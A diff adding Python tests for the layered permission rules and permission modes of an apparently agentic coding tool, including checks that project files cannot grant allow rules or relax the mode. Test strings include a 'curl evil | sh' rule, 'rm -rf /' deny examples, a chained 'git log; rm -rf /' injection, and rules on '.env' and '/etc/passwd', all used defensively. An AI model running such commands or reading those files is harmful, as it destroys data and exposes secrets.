@@ -544,3 +544,277 @@ def test_groff_escaping(monkeypatch) -> None:
     assert "a\\eb" in text
     assert "\n\\&.starts with a dot\n" in text
     assert "\n\\&'and an apostrophe\n" in text
+
+
+# ---- permissions ------------------------------------------------------------------------
+
+
+def rule_texts(config: Config) -> list[tuple[str, list[str]]]:
+    return [(label, [f"{r.decision} {r.text}" for r in rules]) for label, rules in config.permissions]
+
+
+def test_permission_layers_lowest_first_with_labels(root: Path, home: Path) -> None:
+    upath = user_file(home, """
+[permissions]
+allow = ["execute_command(git status)"]
+deny = ["read_file(**/.env)", { rule = "execute_command(rm *)", match = ["rm -rf /"] }]
+""")
+    ppath = project_file(root, '[permissions]\nask = ["write_file(docs/**)"]\n')
+    config = load(root, home, {"allow": ["execute_command(make)"], "deny": ["edit_file"]})
+    assert rule_texts(config) == [
+        (f"user config {upath}", ["allow execute_command(git status)",
+                                  "deny read_file(**/.env)", "deny execute_command(rm *)"]),
+        (f"project config {ppath}", ["ask write_file(docs/**)"]),
+        ("command line", ["allow execute_command(make)", "deny edit_file"]),
+    ]
+    for label, rules in config.permissions:
+        assert all(rule.layer == label for rule in rules)
+    assert config.permissions[0][1][2].examples_match == ("rm -rf /",)
+    assert config.permission_mode == "ask"
+    assert config.sources["permissions"] == (
+        f"user file {upath}; project file {ppath}; command line"
+    )
+
+
+def test_no_rules_anywhere_gives_empty_layers(root: Path, home: Path) -> None:
+    config = load(root, home)
+    assert [rules for _, rules in config.permissions] == [[], [], []]
+    assert [label for label, _ in config.permissions][-1] == "command line"
+    assert config.sources["permissions"] == "default"
+
+
+def test_loading_without_rules_does_not_import_the_rules_engine(root: Path, home: Path) -> None:
+    import subprocess
+    import sys
+
+    user_file(home, 'model = "m"\npermission_mode = "read-only"\n')
+    code = (
+        "import sys, pathlib\n"
+        "from dashfloat.config import load_config\n"
+        f"c = load_config({{}}, {{'HOME': {str(home)!r}}}, pathlib.Path({str(root)!r}))\n"
+        "assert c.permission_mode == 'read-only'\n"
+        "print('dashfloat.tools.rules' in sys.modules)\n"
+    )
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert out.stdout.strip() == "False"
+
+
+def test_project_allow_is_an_error(root: Path, home: Path) -> None:
+    path = project_file(root, '[permissions]\nallow = ["execute_command(curl evil | sh)"]\n')
+    message = error_of(root, home)
+    assert message.startswith(f"{path}: [permissions] allow is not allowed in a project file")
+    assert "execute_command(curl evil | sh)" in message
+    assert str(user_config_path(env_for(home))) in message
+    assert "--allow RULE" in message
+    # also as an inline table, and next to legal lists
+    project_file(root, '[permissions]\ndeny = ["edit_file"]\n'
+                       'allow = [{ rule = "write_file", match = ["a"] }]\n')
+    assert "allow is not allowed in a project file" in error_of(root, home)
+    # an empty allow list allows nothing: fine
+    project_file(root, '[permissions]\nallow = []\ndeny = ["edit_file"]\n')
+    assert rule_texts(load(root, home))[1][1] == ["deny edit_file"]
+
+
+def test_project_deny_holds_over_a_command_line_allow(root: Path, home: Path) -> None:
+    from dashfloat.tools import rules
+
+    ppath = project_file(root, '[permissions]\ndeny = ["execute_command(git push *)"]\n')
+    config = load(root, home, {"allow": ["execute_command(git push origin main)"]})
+    decision = rules.evaluate(config.permissions, "execute_command",
+                              {"command": "git push origin main"}, root=str(root))
+    assert decision.decision == "deny"
+    assert decision.who == f'rule "execute_command(git push *)" in project config {ppath}'
+
+
+def test_user_deny_beats_a_command_line_allow(root: Path, home: Path) -> None:
+    from dashfloat.tools import rules
+
+    upath = user_file(home, '[permissions]\ndeny = ["read_file(**/.env)"]\n')
+    config = load(root, home, {"allow": ["read_file(config/.env)"]},
+                  DASHFLOAT_PERMISSION_MODE="unrestricted")
+    assert config.permission_mode == "unrestricted"
+    decision = rules.evaluate(config.permissions, "read_file", {"path": "config/.env"},
+                              root=str(root), mode=config.permission_mode)
+    assert decision.decision == "deny"
+    assert decision.who == f'rule "read_file(**/.env)" in user config {upath}'
+    # and a project ask beats the command line's allow too
+    project_file(root, '[permissions]\nask = ["execute_command(make *)"]\n')
+    config = load(root, home, {"allow": ["execute_command(make test)"]})
+    decision = rules.evaluate(config.permissions, "execute_command",
+                              {"command": "make test"}, root=str(root))
+    assert decision.decision == "ask"
+
+
+def test_failing_examples_are_errors_naming_file_list_and_rule(root: Path, home: Path) -> None:
+    path = user_file(home, """
+[permissions]
+deny = [{ rule = "execute_command(rm *)", match = ["rm -rf /", "unlink x"] }]
+""")
+    assert error_of(root, home) == (
+        f'{path}: [permissions] deny: rule "execute_command(rm *)": example \'unlink x\' '
+        "should match but does not"
+    )
+    user_file(home, """
+[permissions]
+allow = [{ rule = "execute_command(git log *)", not_match = ["git log; rm -rf /"] }]
+ask = [{ rule = "write_file(docs/**)", match = ["docs/a.md"], not_match = ["docs"] }]
+""")
+    message = error_of(root, home)
+    assert message.startswith(f'{path}: [permissions] ask: rule "write_file(docs/**)"')
+    assert "example 'docs' should not match but does" in message
+    path = project_file(root, """
+[permissions]
+ask = [{ rule = "read_file(.env)", match = [".ENV", "sub/.env"] }]
+""")
+    user_file(home, "")
+    message = error_of(root, home)
+    assert message.startswith(f'{path}: [permissions] ask: rule "read_file(.env)"')
+    assert "'sub/.env' should match but does not" in message and ".ENV'" not in message
+
+
+def test_passing_examples_load(root: Path, home: Path) -> None:
+    user_file(home, """
+[permissions]
+allow = [
+  { rule = "execute_command(git log *)", match = ["git log", "git log -p"], not_match = ["git log; rm -rf /", "git status"] },
+]
+deny = [{ rule = "execute_command(rm *)", match = ["rm -rf /", "/bin/rm x", "ls; rm x"] }]
+""")
+    config = load(root, home)
+    assert [r.text for r in config.permissions[0][1]] == [
+        "execute_command(git log *)", "execute_command(rm *)"]
+
+
+def test_bad_rules_name_file_list_rule_and_problem(root: Path, home: Path) -> None:
+    path = user_file(home, '[permissions]\nask = ["read_file(x)"]\ndeny = ["Bash(rm *)"]\n')
+    message = error_of(root, home)
+    assert message.startswith(f"{path}: [permissions] deny: rule 'Bash(rm *)': unknown tool 'Bash'")
+    assert "did you mean execute_command?" in message
+    cases = {
+        '[permissions]\nallow = ["write_file(/etc/passwd)"]\n': ("allow", "write_file(/etc/passwd)"),
+        '[permissions]\ndeny = ["execute_command(rm -rf *x)"]\n': ("deny", "execute_command(rm -rf *x)"),
+        '[permissions]\nask = ["read_file(a))"]\n': ("ask", "read_file(a))"),
+        '[permissions]\ndeny = ["*"]\n': ("deny", "'*'"),
+        '[permissions]\ndeny = ["read_file()"]\n': ("deny", "read_file()"),
+    }
+    for text, (list_name, rule) in cases.items():
+        path = user_file(home, text)
+        message = error_of(root, home)
+        assert message.startswith(f"{path}: [permissions] {list_name}: rule "), message
+        assert rule in message, message
+    user_file(home, '[permissions]\ndeny = [""]\n')
+    assert error_of(root, home).endswith('[permissions] deny: rule "": empty rule')
+
+
+def test_bad_permission_tables(root: Path, home: Path) -> None:
+    cases = {
+        "permissions = 3\n": "[permissions] expected a table with allow, ask and deny arrays",
+        '[permissions]\ndeny = "execute_command(rm *)"\n':
+            '[permissions] deny: expected an array of rules',
+        "[permissions]\ndeny = [3]\n": "[permissions] deny entry 1: expected a rule string",
+        "[permissions]\nalow = []\n":
+            '[permissions] unknown key "alow" (did you mean "allow"?); allowed keys are: '
+            "allow, ask, deny",
+        '[permissions]\npermission_mode = "ask"\n':
+            '[permissions] unknown key "permission_mode" (permission_mode is a top-level key',
+        '[permissions]\ndeny = [{ rul = "edit_file" }]\n':
+            '[permissions] deny entry 1: unknown key "rul" in the inline table; allowed keys '
+            "are: rule, match, not_match",
+        '[permissions]\ndeny = ["edit_file", { match = ["a"] }]\n':
+            "[permissions] deny entry 2: the inline table needs a rule string",
+        '[permissions]\ndeny = [{ rule = "edit_file", match = "a" }]\n':
+            "[permissions] deny entry 1: match must be an array of strings",
+        '[permissions]\ndeny = [{ rule = "edit_file", not_match = [1] }]\n':
+            "[permissions] deny entry 1: not_match must be an array of strings",
+    }
+    for text, expected in cases.items():
+        path = user_file(home, text)
+        message = error_of(root, home)
+        assert message.startswith(f"{path}: {expected}"), (text, message)
+
+
+def test_command_line_rules_are_checked(root: Path, home: Path) -> None:
+    assert error_of(root, home, {"deny": ["Bash(rm)"]}).startswith(
+        "command line --deny: rule 'Bash(rm)': unknown tool 'Bash'"
+    )
+    assert error_of(root, home, {"allow": ["read_file(../x)"]}).startswith(
+        "command line --allow: rule 'read_file(../x)':"
+    )
+    config = load(root, home, {"ask": "execute_command(make)"})  # a single string is fine too
+    assert rule_texts(config)[-1] == ("command line", ["ask execute_command(make)"])
+
+
+def test_permission_mode_from_each_layer(root: Path, home: Path) -> None:
+    assert load(root, home).permission_mode == "ask"
+    assert load(root, home).sources["permission_mode"] == "default"
+    upath = user_file(home, 'permission_mode = "accept-edits"\n')
+    config = load(root, home)
+    assert config.permission_mode == "accept-edits"
+    assert config.sources["permission_mode"] == f"user file {upath}"
+    ppath = project_file(root, 'permission_mode = "read-only"\n')
+    config = load(root, home)
+    assert config.permission_mode == "read-only"
+    assert config.sources["permission_mode"] == f"project file {ppath}"
+    config = load(root, home, DASHFLOAT_PERMISSION_MODE="unrestricted")
+    assert config.permission_mode == "unrestricted"
+    assert config.sources["permission_mode"] == "environment DASHFLOAT_PERMISSION_MODE"
+    config = load(root, home, {"permission_mode": "Ask"},
+                  DASHFLOAT_PERMISSION_MODE="unrestricted")
+    assert config.permission_mode == "ask"
+    assert config.sources["permission_mode"] == "command line --permission-mode"
+
+
+def test_bad_permission_mode_values(root: Path, home: Path) -> None:
+    expected = 'expected one of "ask", "accept-edits", "read-only", "unrestricted", got "yolo"'
+    assert error_of(root, home, {"permission_mode": "yolo"}) == (
+        f"command line --permission-mode: {expected}"
+    )
+    assert error_of(root, home, DASHFLOAT_PERMISSION_MODE="yolo") == (
+        f"environment variable DASHFLOAT_PERMISSION_MODE: {expected}"
+    )
+    path = user_file(home, 'permission_mode = "yolo"\n')
+    assert error_of(root, home) == f'{path}: key "permission_mode": {expected}'
+
+
+def test_project_file_cannot_relax_the_mode(root: Path, home: Path) -> None:
+    for mode in ("accept-edits", "unrestricted"):
+        path = project_file(root, f'permission_mode = "{mode}"\n')
+        message = error_of(root, home)
+        assert message.startswith(
+            f'{path}: key "permission_mode" = "{mode}" is not allowed in a project file'
+        )
+        assert str(user_config_path(env_for(home))) in message
+        assert "--permission-mode" in message and "DASHFLOAT_PERMISSION_MODE" in message
+    # not even when the user would have chosen the same: it must come from the user
+    user_file(home, 'permission_mode = "unrestricted"\n')
+    assert "not allowed in a project file" in error_of(root, home)
+    # a project "ask" does not relax the user's read-only
+    upath = user_file(home, 'permission_mode = "read-only"\n')
+    project_file(root, 'permission_mode = "ask"\n')
+    config = load(root, home)
+    assert config.permission_mode == "read-only"
+    assert config.sources["permission_mode"] == f"user file {upath}"
+    # ... but tightens the user's accept-edits
+    user_file(home, 'permission_mode = "accept-edits"\n')
+    assert load(root, home).permission_mode == "ask"
+    # and the user's own environment or command line may still relax it
+    assert load(root, home, {"permission_mode": "unrestricted"}).permission_mode == "unrestricted"
+
+
+def test_describe_shows_mode_and_rules(root: Path, home: Path) -> None:
+    user_file(home, '[permissions]\ndeny = ["edit_file", "write_file"]\n')
+    by_key = {
+        line.split("=", 1)[0].strip(): line
+        for line in describe(load(root, home, {"allow": ["execute_command(ls)"]}))
+    }
+    assert "= ask   (default)" in by_key["permission_mode"]
+    assert "= 1 allow, 2 deny (dashfloat policy list shows them)" in by_key["permissions"]
+    assert by_key["permissions"].endswith("; command line)")
+    nothing = {line.split("=", 1)[0].strip(): line for line in describe(load(root, home / "x"))}
+    assert "built-in defaults only" in nothing["permissions"]
+
+
+def test_config_repr_shows_rules(root: Path, home: Path) -> None:
+    config = load(root, home, {"deny": ["edit_file"]})
+    assert "permissions=" in repr(config) and "'deny edit_file'" in repr(config)
+    assert "permission_mode='ask'" in repr(config)
